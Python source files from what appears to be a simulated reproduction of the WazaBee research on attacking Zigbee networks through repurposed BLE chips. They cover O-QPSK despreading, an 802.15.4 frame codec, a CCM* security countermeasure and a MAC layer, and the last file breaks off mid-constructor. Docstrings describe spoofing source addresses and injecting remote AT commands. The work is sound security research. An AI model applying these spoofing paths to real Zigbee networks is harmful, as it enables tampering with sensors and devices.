    match exceeds it (signal lost / end of frame).

    Returns ``(symbols, distances)``.
    """
    arr = np.asarray(chips, dtype=np.uint8)
    num_blocks = arr.size // CHIPS_PER_SYMBOL
    if num_blocks == 0:
        return [], []
    blocks = arr[: num_blocks * CHIPS_PER_SYMBOL].reshape(
        num_blocks, CHIPS_PER_SYMBOL
    ).astype(np.int32)
    # Hamming distance via the identity |p ^ c| = |p| + |c| - 2·p·c — one
    # (N, 32)×(32, 16) matmul instead of a Python loop over blocks.
    pn = PN_MATRIX.astype(np.int32)
    dists = pn.sum(axis=1)[None, :] + blocks.sum(axis=1)[:, None]
    dists -= 2 * (blocks @ pn.T)
    best = np.argmin(dists, axis=1)
    best_dist = dists[np.arange(num_blocks), best]
    stop = num_blocks
    if max_distance is not None:
        over = np.flatnonzero(best_dist > max_distance)
        if over.size:
            stop = int(over[0])
    return (
        [int(s) for s in best[:stop]],
        [int(d) for d in best_dist[:stop]],
    )


def symbol_confidences(distances: Sequence[int]) -> List[float]:
    """Per-symbol decode confidence in [0, 1] from Hamming distances.

    The soft-decision convention shared by the sequential receiver
    (``repro.core.rx.DecodedFrame``) and the batched pipeline
    (``repro.phy.batch.BatchDecodedFrame``): a perfect match (distance
    0) scores 1.0; the worst credible match — distance 15, half the
    minimum pairwise separation of the sequences away from everything —
    scores ~0.5.  Complements the LLR margin from
    ``despread_blocks_soft``: the confidence says how well the chosen
    symbol fit, the margin says how much better it fit than the
    runner-up.
    """
    return [1.0 - float(d) / 31.0 for d in distances]


def _shr_symbols() -> List[int]:
    preamble = [0] * (PREAMBLE_BYTES * SYMBOLS_PER_BYTE)
    sfd_low, sfd_high = symbols_for_byte(SFD_VALUE)
    return preamble + [sfd_low, sfd_high]


#: Synchronisation-header symbols: eight zero symbols then the SFD pair.
SHR_SYMBOLS: Tuple[int, ...] = tuple(_shr_symbols())


@dataclass
class Ppdu:
    """An 802.15.4 PHY protocol data unit."""

    psdu: bytes

    def __post_init__(self) -> None:
        if len(self.psdu) > MAX_PSDU_SIZE:
            raise ValueError(
                f"PSDU limited to {MAX_PSDU_SIZE} bytes, got {len(self.psdu)}"
            )

    # -- symbol/chip domain ------------------------------------------------
    def to_symbols(self) -> List[int]:
        """Full frame as DSSS symbols (SHR + PHR + PSDU)."""
        symbols = list(SHR_SYMBOLS)
        phr = len(self.psdu) & 0x7F
        low, high = symbols_for_byte(phr)
        symbols.extend((low, high))
        for byte in self.psdu:
            low, high = symbols_for_byte(byte)
            symbols.extend((low, high))
        return symbols

    def to_chips(self) -> np.ndarray:
        """Full frame as a chip stream."""
        return spread_symbols(self.to_symbols())

    @property
    def num_symbols(self) -> int:
        return len(SHR_SYMBOLS) + SYMBOLS_PER_BYTE * (1 + len(self.psdu))

    @property
    def airtime_seconds(self) -> float:
        """On-air duration at the 2.4 GHz chip rate."""
        return self.num_symbols * CHIPS_PER_SYMBOL / CHIP_RATE_HZ

    # -- parsing -------------------------------------------------------------
    @staticmethod
    def parse_symbols(symbols: Sequence[int]) -> Optional["Ppdu"]:
        """Reassemble a PPDU from a symbol stream that starts at the SFD.

        *symbols* must begin with the SFD symbol pair (the receiver strips
        the preamble during synchronisation).  Returns ``None`` when the
        stream is malformed or truncated.
        """
        sfd_low, sfd_high = symbols_for_byte(SFD_VALUE)
        if len(symbols) < 4:
            return None
        if symbols[0] != sfd_low or symbols[1] != sfd_high:
            return None
        length = byte_for_symbols(symbols[2], symbols[3]) & 0x7F
        needed = 4 + SYMBOLS_PER_BYTE * length
        if len(symbols) < needed:
            return None
        payload = bytes(
            byte_for_symbols(symbols[4 + 2 * i], symbols[5 + 2 * i])
            for i in range(length)
        )
        return Ppdu(psdu=payload)

    @staticmethod
    def find_sfd(symbols: Sequence[int], search_limit: int = 16) -> Optional[int]:
        """Locate the SFD symbol pair within the first *search_limit* symbols."""
        sfd_low, sfd_high = symbols_for_byte(SFD_VALUE)
        limit = min(len(symbols) - 1, search_limit)
        for i in range(limit):
            if symbols[i] == sfd_low and symbols[i + 1] == sfd_high:
                return i
        return None
