"""WazaBee reproduction — attacking Zigbee networks by diverting BLE chips.

This package reproduces the system described in:

    R. Cayre, F. Galtier, G. Auriol, V. Nicomette, M. Kaâniche, G. Marconato,
    "WazaBee: attacking Zigbee networks by diverting Bluetooth Low Energy
    chips", IEEE/IFIP DSN 2021.

Because the paper's experiments require physical radios, the whole RF path is
reproduced as a complex-baseband, sample-level simulation (see DESIGN.md for
the substitution table).  The layering is:

``repro.utils``
    Bit/byte manipulation, Hamming distance, generic CRC and LFSR engines.
``repro.dsp``
    Modulators/demodulators (GFSK/MSK, O-QPSK half-sine) and channel
    impairments operating on complex-baseband sample vectors.
``repro.phy`` / ``repro.ble`` / ``repro.dot15d4`` / ``repro.zigbee``
    Protocol stacks for BLE 5 and IEEE 802.15.4 / Zigbee(XBee).
``repro.radio`` / ``repro.chips``
    A shared RF medium and capability-gated chip models.
``repro.core``
    The paper's contribution: the PN→MSK correspondence table (Algorithm 1),
    the WazaBee transmission and reception primitives, and the BLE↔Zigbee
    channel map (Table II).
``repro.attacks`` / ``repro.ids``
    The two end-to-end attack scenarios (§VI) and the counter-measure
    substrate (§VII).
``repro.experiments``
    Harnesses regenerating every table and figure of the paper.
"""

from repro.core.channel_map import (
    COMMON_CHANNELS,
    ble_channel_for_zigbee,
    zigbee_channel_for_ble,
)
from repro.core.tables import CorrespondenceTable, pn_to_msk

__version__ = "1.0.0"

__all__ = [
    "CorrespondenceTable",
    "pn_to_msk",
    "COMMON_CHANNELS",
    "ble_channel_for_zigbee",
    "zigbee_channel_for_ble",
    "__version__",
]
