"""802.15.4 MAC frame codec.

Implements the MAC frame format of IEEE 802.15.4-2015 §7.2 for the frame
types the paper's Scenario B touches: beacons (active scan), data frames
(sensor readings, spoofed readings), acknowledgements, and MAC commands
(Beacon Request).  Security headers are not implemented — the paper's target
network runs unencrypted, and §VII discusses that as the main mitigation.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import IntEnum
from typing import Optional, Tuple

from repro.dot15d4.fcs import append_fcs, verify_fcs

__all__ = [
    "FrameType",
    "AddressingMode",
    "CommandId",
    "Address",
    "MacFrame",
    "BROADCAST_PAN",
    "BROADCAST_SHORT",
    "build_beacon_request",
    "build_beacon",
    "build_ack",
    "build_data",
    "parse_beacon_payload",
]

BROADCAST_PAN = 0xFFFF
BROADCAST_SHORT = 0xFFFF


class FrameType(IntEnum):
    BEACON = 0
    DATA = 1
    ACK = 2
    COMMAND = 3


class AddressingMode(IntEnum):
    NONE = 0
    SHORT = 2
    EXTENDED = 3


class CommandId(IntEnum):
    ASSOCIATION_REQUEST = 0x01
    ASSOCIATION_RESPONSE = 0x02
    DATA_REQUEST = 0x04
    BEACON_REQUEST = 0x07


@dataclass(frozen=True)
class Address:
    """A MAC address: PAN id plus a short (16-bit) or extended (64-bit) id."""

    pan_id: int
    address: int
    mode: AddressingMode = AddressingMode.SHORT

    def __post_init__(self) -> None:
        if not 0 <= self.pan_id <= 0xFFFF:
            raise ValueError("PAN id must be 16-bit")
        if self.mode is AddressingMode.SHORT and not 0 <= self.address <= 0xFFFF:
            raise ValueError("short address must be 16-bit")
        if self.mode is AddressingMode.EXTENDED and not (
            0 <= self.address <= 0xFFFFFFFFFFFFFFFF
        ):
            raise ValueError("extended address must be 64-bit")
        if self.mode is AddressingMode.NONE:
            raise ValueError("use None instead of AddressingMode.NONE addresses")

    @property
    def address_bytes(self) -> bytes:
        size = 2 if self.mode is AddressingMode.SHORT else 8
        return self.address.to_bytes(size, "little")

    def is_broadcast(self) -> bool:
        return (
            self.mode is AddressingMode.SHORT and self.address == BROADCAST_SHORT
        )

    def __str__(self) -> str:
        width = 4 if self.mode is AddressingMode.SHORT else 16
        return f"0x{self.address:0{width}x}@0x{self.pan_id:04x}"


@dataclass
class MacFrame:
    """A decoded (or to-be-encoded) MAC frame."""

    frame_type: FrameType
    sequence_number: int = 0
    destination: Optional[Address] = None
    source: Optional[Address] = None
    payload: bytes = b""
    ack_request: bool = False
    frame_pending: bool = False
    pan_id_compression: bool = False
    frame_version: int = 0
    security_enabled: bool = False

    # -- encoding -----------------------------------------------------------
    def _frame_control(self) -> int:
        dest_mode = self.destination.mode if self.destination else AddressingMode.NONE
        src_mode = self.source.mode if self.source else AddressingMode.NONE
        fcf = int(self.frame_type)
        fcf |= int(self.security_enabled) << 3
        fcf |= int(self.frame_pending) << 4
        fcf |= int(self.ack_request) << 5
        fcf |= int(self.pan_id_compression) << 6
        fcf |= int(dest_mode) << 10
        fcf |= (self.frame_version & 0x3) << 12
        fcf |= int(src_mode) << 14
        return fcf

    def encode(self) -> bytes:
        """MHR + payload, without the FCS."""
        if not 0 <= self.sequence_number <= 0xFF:
            raise ValueError("sequence number must fit one byte")
        out = bytearray()
        out += self._frame_control().to_bytes(2, "little")
        out.append(self.sequence_number)
        if self.destination is not None:
            out += self.destination.pan_id.to_bytes(2, "little")
            out += self.destination.address_bytes
        if self.source is not None:
            if not (self.pan_id_compression and self.destination is not None):
                out += self.source.pan_id.to_bytes(2, "little")
            out += self.source.address_bytes
        out += self.payload
        return bytes(out)

    def to_bytes(self) -> bytes:
        """Full over-the-air MAC frame (MHR + payload + FCS) — the PSDU."""
        return append_fcs(self.encode())

    # -- decoding -----------------------------------------------------------
    @staticmethod
    def parse(psdu: bytes, check_fcs: bool = True) -> "MacFrame":
        """Decode a PSDU.  Raises ``ValueError`` on malformed input."""
        if len(psdu) < 5:
            raise ValueError("PSDU too short for a MAC frame")
        if check_fcs and not verify_fcs(psdu):
            raise ValueError("FCS check failed")
        body = psdu[:-2]
        fcf = int.from_bytes(body[0:2], "little")
        frame_type_value = fcf & 0x7
        try:
            frame_type = FrameType(frame_type_value)
        except ValueError as exc:
            raise ValueError(f"unknown frame type {frame_type_value}") from exc
        frame = MacFrame(
            frame_type=frame_type,
            sequence_number=body[2],
            security_enabled=bool(fcf & (1 << 3)),
            frame_pending=bool(fcf & (1 << 4)),
            ack_request=bool(fcf & (1 << 5)),
            pan_id_compression=bool(fcf & (1 << 6)),
            frame_version=(fcf >> 12) & 0x3,
        )
        dest_mode = AddressingMode((fcf >> 10) & 0x3) if ((fcf >> 10) & 0x3) != 1 else None
        src_mode = AddressingMode((fcf >> 14) & 0x3) if ((fcf >> 14) & 0x3) != 1 else None
        if dest_mode is None or src_mode is None:
            raise ValueError("reserved addressing mode")
        cursor = 3

        def take(n: int) -> bytes:
            nonlocal cursor
            chunk = body[cursor : cursor + n]
            if len(chunk) != n:
                raise ValueError("truncated addressing fields")
            cursor += n
            return chunk

        dest_pan = None
        if dest_mode is not AddressingMode.NONE:
            dest_pan = int.from_bytes(take(2), "little")
            size = 2 if dest_mode is AddressingMode.SHORT else 8
            frame.destination = Address(
                pan_id=dest_pan,
                address=int.from_bytes(take(size), "little"),
                mode=dest_mode,
            )
        if src_mode is not AddressingMode.NONE:
            if frame.pan_id_compression and dest_pan is not None:
                src_pan = dest_pan
            else:
                src_pan = int.from_bytes(take(2), "little")
            size = 2 if src_mode is AddressingMode.SHORT else 8
            frame.source = Address(
                pan_id=src_pan,
                address=int.from_bytes(take(size), "little"),
                mode=src_mode,
            )
        frame.payload = bytes(body[cursor:])
        return frame


# ---------------------------------------------------------------------------
# Convenience builders for the frames Scenario B exchanges
# ---------------------------------------------------------------------------


def build_beacon_request(sequence_number: int = 0) -> MacFrame:
    """Broadcast Beacon Request — the active-scan probe (§VI-C step 1)."""
    return MacFrame(
        frame_type=FrameType.COMMAND,
        sequence_number=sequence_number,
        destination=Address(pan_id=BROADCAST_PAN, address=BROADCAST_SHORT),
        payload=bytes([CommandId.BEACON_REQUEST]),
    )


def build_beacon(
    source: Address,
    sequence_number: int = 0,
    beacon_payload: bytes = b"",
    association_permit: bool = True,
    pan_coordinator: bool = True,
) -> MacFrame:
    """A (non-beacon-enabled) beacon frame, as sent in answer to a request."""
    superframe = 0x0F | (0x0F << 4)  # beacon order / superframe order = 15
    if pan_coordinator:
        superframe |= 1 << 14
    if association_permit:
        superframe |= 1 << 15
    payload = superframe.to_bytes(2, "little")
    payload += bytes([0x00])  # GTS: none
    payload += bytes([0x00])  # pending addresses: none
    payload += beacon_payload
    return MacFrame(
        frame_type=FrameType.BEACON,
        sequence_number=sequence_number,
        source=source,
        payload=payload,
    )


def parse_beacon_payload(frame: MacFrame) -> Tuple[int, bytes]:
    """Split a beacon's payload into (superframe spec, application payload)."""
    if frame.frame_type is not FrameType.BEACON:
        raise ValueError("not a beacon frame")
    if len(frame.payload) < 4:
        raise ValueError("beacon payload too short")
    superframe = int.from_bytes(frame.payload[0:2], "little")
    return superframe, bytes(frame.payload[4:])


def build_ack(sequence_number: int, frame_pending: bool = False) -> MacFrame:
    """An immediate acknowledgement for *sequence_number*."""
    return MacFrame(
        frame_type=FrameType.ACK,
        sequence_number=sequence_number,
        frame_pending=frame_pending,
    )


def build_data(
    source: Address,
    destination: Address,
    payload: bytes,
    sequence_number: int = 0,
    ack_request: bool = True,
) -> MacFrame:
    """A data frame with intra-PAN compression when PANs match."""
    return MacFrame(
        frame_type=FrameType.DATA,
        sequence_number=sequence_number,
        destination=destination,
        source=source,
        payload=bytes(payload),
        ack_request=ack_request,
        pan_id_compression=source.pan_id == destination.pan_id,
    )
