"""802.15.4 link-layer security (simplified CCM* data security).

Implements the counter-measure §VII recommends "should be systematically
used": data frames carry an auxiliary security header (security control +
frame counter) and their payload is protected with AES-128/CCM*, keyed by a
network key.  The MAC header is included in the associated data so spoofed
addressing fails authentication.

Simplifications vs IEEE 802.15.4-2015 §9 (documented per DESIGN.md):

* the nonce's 8-byte source identifier is built from (PAN id, short
  address) instead of the EUI-64 (the simulation has no extended
  addresses on the data path);
* a single network key (KeyIdMode 0), no key lookup tables;
* replay protection is a strict per-source frame-counter monotonicity
  check, which is also what real stacks do.

None of the simplifications weakens what the counter-measure bench needs to
show: an attacker without the key can neither forge valid frames nor read
encrypted payloads, but can still jam and replay-drop (the residual risks
the paper lists).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import IntEnum
from typing import Dict, Optional, Tuple

from repro.crypto.ccm import CcmError, ccm_decrypt, ccm_encrypt
from repro.dot15d4.frames import Address, MacFrame

__all__ = [
    "SecurityLevel",
    "SecurityError",
    "SecurityContext",
    "AUX_HEADER_SIZE",
]

#: Auxiliary security header: security control (1) + frame counter (4).
AUX_HEADER_SIZE = 5


class SecurityError(ValueError):
    """Authentication/replay failure on a secured frame."""


class SecurityLevel(IntEnum):
    """IEEE 802.15.4 security levels (MIC size / encryption)."""

    NONE = 0
    MIC_32 = 1
    MIC_64 = 2
    MIC_128 = 3
    ENC = 4
    ENC_MIC_32 = 5
    ENC_MIC_64 = 6
    ENC_MIC_128 = 7

    @property
    def mic_length(self) -> int:
        return {0: 0, 1: 4, 2: 8, 3: 16, 4: 0, 5: 4, 6: 8, 7: 16}[int(self)]

    @property
    def encrypted(self) -> bool:
        return int(self) >= 4


def _source_identifier(address: Address) -> bytes:
    """8-byte nonce source field derived from PAN id + short address."""
    return (
        address.pan_id.to_bytes(2, "little")
        + address.address_bytes.ljust(2, b"\x00")[:2]
        + bytes(4)
    )


def build_nonce(source: Address, frame_counter: int, level: SecurityLevel) -> bytes:
    """13-byte CCM* nonce: source id (8) || frame counter (4) || level (1)."""
    if not 0 <= frame_counter <= 0xFFFFFFFF:
        raise SecurityError("frame counter exhausted")
    return (
        _source_identifier(source)
        + frame_counter.to_bytes(4, "big")
        + bytes([int(level)])
    )


@dataclass
class SecurityContext:
    """Per-node security material and replay state."""

    key: bytes
    level: SecurityLevel = SecurityLevel.ENC_MIC_64
    frame_counter: int = 0
    replay_state: Dict[Tuple[int, int], int] = field(default_factory=dict)

    def __post_init__(self) -> None:
        if len(self.key) != 16:
            raise SecurityError("network key must be 16 bytes (AES-128)")
        if self.level is SecurityLevel.NONE:
            raise SecurityError("use no context at all instead of level NONE")

    # -- outgoing -----------------------------------------------------------
    def protect(self, frame: MacFrame) -> MacFrame:
        """Return a secured copy of *frame* (aux header + protected payload)."""
        if frame.source is None:
            raise SecurityError("secured frames need a source address")
        counter = self.frame_counter
        self.frame_counter += 1
        nonce = build_nonce(frame.source, counter, self.level)
        aux = bytes([int(self.level)]) + counter.to_bytes(4, "big")
        secured = MacFrame(
            frame_type=frame.frame_type,
            sequence_number=frame.sequence_number,
            destination=frame.destination,
            source=frame.source,
            ack_request=frame.ack_request,
            frame_pending=frame.frame_pending,
            pan_id_compression=frame.pan_id_compression,
            frame_version=frame.frame_version,
            security_enabled=True,
        )
        header = secured.encode()  # MHR (empty payload) == associated data
        protected = ccm_encrypt(
            self.key,
            nonce,
            frame.payload,
            aad=header + aux,
            mic_length=self.level.mic_length,
            encrypt=self.level.encrypted,
        )
        secured.payload = aux + protected
        return secured

    # -- incoming --------------------------------------------------------------
    def unprotect(self, frame: MacFrame) -> bytes:
        """Verify a secured frame; returns the clear payload.

        Raises :class:`SecurityError` on MIC failure, replay, level
        mismatch or malformed aux header.
        """
        if not frame.security_enabled:
            raise SecurityError("frame is not secured")
        if frame.source is None:
            raise SecurityError("secured frames need a source address")
        if len(frame.payload) < AUX_HEADER_SIZE:
            raise SecurityError("truncated auxiliary security header")
        level_value = frame.payload[0] & 0x07
        try:
            level = SecurityLevel(level_value)
        except ValueError as exc:  # pragma: no cover - 3-bit value always valid
            raise SecurityError("bad security level") from exc
        if level is not self.level:
            raise SecurityError(
                f"security level mismatch: frame {level.name}, "
                f"context {self.level.name}"
            )
        counter = int.from_bytes(frame.payload[1:5], "big")
        key_id = (frame.source.pan_id, frame.source.address)
        last = self.replay_state.get(key_id, -1)
        if counter <= last:
            raise SecurityError(
                f"replayed frame counter {counter} (last seen {last})"
            )
        # Rebuild the associated data exactly as the sender did.
        header_frame = MacFrame(
            frame_type=frame.frame_type,
            sequence_number=frame.sequence_number,
            destination=frame.destination,
            source=frame.source,
            ack_request=frame.ack_request,
            frame_pending=frame.frame_pending,
            pan_id_compression=frame.pan_id_compression,
            frame_version=frame.frame_version,
            security_enabled=True,
        )
        aux = frame.payload[:AUX_HEADER_SIZE]
        nonce = build_nonce(frame.source, counter, level)
        try:
            payload = ccm_decrypt(
                self.key,
                nonce,
                frame.payload[AUX_HEADER_SIZE:],
                aad=header_frame.encode() + aux,
                mic_length=level.mic_length,
                encrypt=level.encrypted,
            )
        except CcmError as exc:
            raise SecurityError(str(exc)) from exc
        self.replay_state[key_id] = counter
        return payload
