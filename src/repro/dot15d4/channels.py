"""802.15.4 channel map for the 2.4 GHz O-QPSK PHY.

Sixteen channels numbered 11–26, 2 MHz wide, 5 MHz spacing, per the paper's
equation (6): ``fc = 2405 + 5 (k − 11)`` MHz.
"""

from __future__ import annotations

from typing import Dict, Optional, Tuple

__all__ = [
    "ZIGBEE_CHANNELS",
    "CHANNEL_BANDWIDTH_HZ",
    "channel_frequency_hz",
    "channel_for_frequency",
]

ZIGBEE_CHANNELS: Tuple[int, ...] = tuple(range(11, 27))
CHANNEL_BANDWIDTH_HZ: float = 2e6

_MHZ = 1e6


def channel_frequency_hz(channel: int) -> float:
    """Centre frequency (Hz) of 802.15.4 channel *channel* (11–26)."""
    if channel not in ZIGBEE_CHANNELS:
        raise ValueError(f"invalid 802.15.4 channel {channel} (valid: 11-26)")
    return (2405 + 5 * (channel - 11)) * _MHZ


_FREQ_TO_CHANNEL: Dict[float, int] = {
    channel_frequency_hz(ch): ch for ch in ZIGBEE_CHANNELS
}


def channel_for_frequency(frequency_hz: float) -> Optional[int]:
    """Inverse of :func:`channel_frequency_hz`; ``None`` if no channel there."""
    return _FREQ_TO_CHANNEL.get(float(frequency_hz))
