"""802.15.4 MAC service.

Binds a native radio (:class:`~repro.chips.rzusbstick.Dot15d4Radio`) to MAC
behaviour: address filtering, sequence numbers, immediate acknowledgements,
duplicate rejection and beacon responses to active scans.  This is the layer
Scenario B's attack steps interact with:

* the coordinator answers Beacon Requests → active scanning works;
* data frames are acknowledged → the spoofed sensor looks alive;
* address filtering is destination-only → spoofed *source* addresses pass,
  which is the whole point of the remote-AT-command injection.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.dot15d4.frames import (
    Address,
    BROADCAST_PAN,
    BROADCAST_SHORT,
    CommandId,
    FrameType,
    MacFrame,
    build_ack,
    build_beacon,
    build_data,
)
from repro.dot15d4.security import SecurityContext, SecurityError

__all__ = ["MacService", "MacStats"]

#: Acknowledgement turnaround (aTurnaroundTime, 12 symbol periods).
ACK_TURNAROUND_S = 192e-6
#: Delay before answering a Beacon Request (models CSMA backoff).
BEACON_RESPONSE_DELAY_S = 2e-3

FrameHandler = Callable[[MacFrame], None]


@dataclass
class MacStats:
    """Counters exposed for experiments."""

    received_frames: int = 0
    fcs_failures: int = 0
    duplicates: int = 0
    acks_sent: int = 0
    acks_received: int = 0
    beacons_sent: int = 0
    sent_frames: int = 0
    security_failures: int = 0


class MacService:
    """MAC-layer behaviour for one 802.15.4 node."""

    def __init__(
        self,
        radio,
        address: Address,
        is_coordinator: bool = False,
        beacon_payload: bytes = b"",
        promiscuous: bool = False,
        security: Optional[SecurityContext] = None,
    ):
        self.radio = radio
        self.address = address
        self.is_coordinator = is_coordinator
        self.beacon_payload = beacon_payload
        self.promiscuous = promiscuous
        self.security = security
        self.stats = MacStats()
        self._sequence = 0
        self._seen: Dict[Tuple[int, int], int] = {}
        self._data_handler: Optional[FrameHandler] = None
        self._command_handler: Optional[FrameHandler] = None
        self._beacon_handler: Optional[FrameHandler] = None
        self._ack_handler: Optional[Callable[[int], None]] = None
        self._sniffer: Optional[FrameHandler] = None

    # -- wiring ------------------------------------------------------------
    def start(self) -> None:
        self.radio.start_rx(self._on_psdu)

    def stop(self) -> None:
        self.radio.stop_rx()

    def on_data(self, handler: FrameHandler) -> None:
        self._data_handler = handler

    def on_command(self, handler: FrameHandler) -> None:
        self._command_handler = handler

    def on_beacon(self, handler: FrameHandler) -> None:
        self._beacon_handler = handler

    def on_ack(self, handler: Callable[[int], None]) -> None:
        self._ack_handler = handler

    def on_any_frame(self, handler: FrameHandler) -> None:
        """Promiscuous tap (before filtering) — the eavesdropping hook."""
        self._sniffer = handler

    @property
    def _scheduler(self):
        return self.radio.transceiver.medium.scheduler

    # -- sending ------------------------------------------------------------
    def next_sequence(self) -> int:
        self._sequence = (self._sequence + 1) & 0xFF
        return self._sequence

    def send_data(self, destination: Address, payload: bytes, ack: bool = True) -> int:
        frame = build_data(
            source=self.address,
            destination=destination,
            payload=payload,
            sequence_number=self.next_sequence(),
            ack_request=ack,
        )
        if self.security is not None:
            frame = self.security.protect(frame)
        self.radio.transmit_frame(frame)
        self.stats.sent_frames += 1
        return frame.sequence_number

    def send_frame(self, frame: MacFrame) -> None:
        self.radio.transmit_frame(frame)
        self.stats.sent_frames += 1

    # -- receiving -----------------------------------------------------------
    def _on_psdu(self, received) -> None:
        self.stats.received_frames += 1
        if not received.fcs_ok:
            self.stats.fcs_failures += 1
            return
        try:
            frame = MacFrame.parse(received.psdu)
        except ValueError:
            return
        if self._sniffer is not None:
            self._sniffer(frame)
        if frame.frame_type is FrameType.ACK:
            self.stats.acks_received += 1
            if self._ack_handler is not None:
                self._ack_handler(frame.sequence_number)
            return
        if not self.promiscuous and not self._accepts(frame):
            return
        if self._is_duplicate(frame):
            self.stats.duplicates += 1
            return
        if (
            frame.ack_request
            and frame.destination is not None
            and not frame.destination.is_broadcast()
            and frame.destination.address == self.address.address
        ):
            self._schedule_ack(frame.sequence_number)
        if frame.frame_type is FrameType.DATA:
            if not self._apply_security(frame):
                return
            if self._data_handler is not None:
                self._data_handler(frame)
        elif frame.frame_type is FrameType.COMMAND:
            self._handle_command(frame)
        elif frame.frame_type is FrameType.BEACON:
            if self._beacon_handler is not None:
                self._beacon_handler(frame)

    def _accepts(self, frame: MacFrame) -> bool:
        dest = frame.destination
        if dest is None:
            # Beacons carry no destination; everyone may process them.
            return frame.frame_type is FrameType.BEACON
        if dest.pan_id not in (self.address.pan_id, BROADCAST_PAN):
            return False
        return dest.address in (self.address.address, BROADCAST_SHORT)

    def _is_duplicate(self, frame: MacFrame) -> bool:
        if frame.source is None:
            return False
        key = (frame.source.pan_id, frame.source.address)
        last = self._seen.get(key)
        if last is not None and last == frame.sequence_number:
            return True
        self._seen[key] = frame.sequence_number
        return False

    def _apply_security(self, frame: MacFrame) -> bool:
        """Enforce the node's security policy on an incoming data frame.

        With a :class:`SecurityContext` configured, unsecured data frames
        are rejected outright and secured ones must authenticate + pass the
        replay check; the clear payload replaces the protected one.
        """
        if self.security is None:
            if frame.security_enabled:
                # No key material: a secured frame is undecodable noise.
                self.stats.security_failures += 1
                return False
            return True
        if not frame.security_enabled:
            self.stats.security_failures += 1
            return False
        try:
            frame.payload = self.security.unprotect(frame)
        except SecurityError:
            self.stats.security_failures += 1
            return False
        return True

    def _schedule_ack(self, sequence_number: int) -> None:
        def send() -> None:
            self.radio.transmit_frame(build_ack(sequence_number))
            self.stats.acks_sent += 1

        self._scheduler.schedule(ACK_TURNAROUND_S, send)

    def _handle_command(self, frame: MacFrame) -> None:
        if (
            self.is_coordinator
            and frame.payload[:1] == bytes([CommandId.BEACON_REQUEST])
        ):
            self._schedule_beacon()
        if self._command_handler is not None:
            self._command_handler(frame)

    def _schedule_beacon(self) -> None:
        def send() -> None:
            beacon = build_beacon(
                source=self.address,
                sequence_number=self.next_sequence(),
                beacon_payload=self.beacon_payload,
                pan_coordinator=True,
            )
            self.radio.transmit_frame(beacon)
            self.stats.beacons_sent += 1

        self._scheduler.schedule(BEACON_RESPONSE_DELAY_S, send)
