"""802.15.4 MAC service.

Binds a native radio (:class:`~repro.chips.rzusbstick.Dot15d4Radio`) to MAC
behaviour: address filtering, sequence numbers, immediate acknowledgements,
duplicate rejection and beacon responses to active scans.  This is the layer
Scenario B's attack steps interact with:

* the coordinator answers Beacon Requests → active scanning works;
* data frames are acknowledged → the spoofed sensor looks alive;
* address filtering is destination-only — spoofed *source* addresses pass,
  which is the whole point of the remote-AT-command injection.

Link reliability (unslotted CSMA-CA + ACK-wait retransmission) follows
§7.5.1 of the standard: outgoing data frames wait a random backoff of
``0..2^BE-1`` unit periods, perform a clear-channel assessment against the
medium's in-flight transmissions, and — when an acknowledgement was
requested — are retransmitted up to ``macMaxFrameRetries`` times if no ACK
arrives within ``macAckWaitDuration``.  :class:`MacConfig` exposes the PIB
attributes; ``MacConfig.legacy()`` restores the historical fire-and-forget
behaviour (no CSMA, no retries) for experiments that need raw timing.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

import numpy as np

from repro.dot15d4.frames import (
    Address,
    BROADCAST_PAN,
    BROADCAST_SHORT,
    CommandId,
    FrameType,
    MacFrame,
    build_ack,
    build_beacon,
    build_data,
)
from repro.dot15d4.security import SecurityContext, SecurityError
from repro.obs import MAC_RETRY
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus

__all__ = ["MacService", "MacStats", "MacConfig"]

#: Acknowledgement turnaround (aTurnaroundTime, 12 symbol periods).
ACK_TURNAROUND_S = 192e-6
#: Delay before answering a Beacon Request (models CSMA backoff).
BEACON_RESPONSE_DELAY_S = 2e-3
#: One O-QPSK symbol period at 62.5 ksymbol/s.
SYMBOL_PERIOD_S = 16e-6

FrameHandler = Callable[[MacFrame], None]
SendResultHandler = Callable[[int, bool], None]


@dataclass(frozen=True)
class MacConfig:
    """The MAC PIB attributes governing link reliability.

    Attributes mirror the standard: ``min_be``/``max_be`` bound the backoff
    exponent, ``max_csma_backoffs`` is macMaxCSMABackoffs,
    ``max_frame_retries`` is macMaxFrameRetries and ``ack_wait_duration_s``
    is macAckWaitDuration (54 symbol periods for the 2.4 GHz PHY).
    ``unit_backoff_s`` is aUnitBackoffPeriod (20 symbols).
    """

    csma_enabled: bool = True
    min_be: int = 3
    max_be: int = 5
    max_csma_backoffs: int = 4
    unit_backoff_s: float = 20 * SYMBOL_PERIOD_S
    max_frame_retries: int = 3
    ack_wait_duration_s: float = 54 * SYMBOL_PERIOD_S

    @staticmethod
    def legacy() -> "MacConfig":
        """Pre-reliability behaviour: immediate single-shot transmission."""
        return MacConfig(csma_enabled=False, max_frame_retries=0)


@dataclass
class MacStats:
    """Counters exposed for experiments."""

    received_frames: int = 0
    fcs_failures: int = 0
    duplicates: int = 0
    acks_sent: int = 0
    acks_received: int = 0
    beacons_sent: int = 0
    sent_frames: int = 0
    security_failures: int = 0
    #: Retransmissions after a missed acknowledgement.
    retries: int = 0
    #: CSMA backoff slots where CCA found the channel busy.
    csma_backoffs: int = 0
    #: Transmissions abandoned because CCA never found the channel clear.
    channel_access_failures: int = 0
    #: ACK-wait windows that expired without the matching ACK.
    ack_timeouts: int = 0
    #: Frames dropped after exhausting retries or channel access attempts.
    drops: int = 0


@dataclass
class _PendingTx:
    """One outgoing frame moving through CSMA-CA / ACK-retry."""

    frame: MacFrame
    ack_request: bool
    on_result: Optional[SendResultHandler] = None
    retries: int = 0
    nb: int = 0
    be: int = 0


class MacService:
    """MAC-layer behaviour for one 802.15.4 node."""

    def __init__(
        self,
        radio,
        address: Address,
        is_coordinator: bool = False,
        beacon_payload: bytes = b"",
        promiscuous: bool = False,
        security: Optional[SecurityContext] = None,
        config: Optional[MacConfig] = None,
        rng: Optional[np.random.Generator] = None,
    ):
        self.radio = radio
        self.address = address
        self.is_coordinator = is_coordinator
        self.beacon_payload = beacon_payload
        self.promiscuous = promiscuous
        self.security = security
        self.config = config if config is not None else MacConfig()
        # Backoff draws come from a per-node deterministic stream (keyed by
        # address) so simultaneous senders de-synchronise reproducibly.
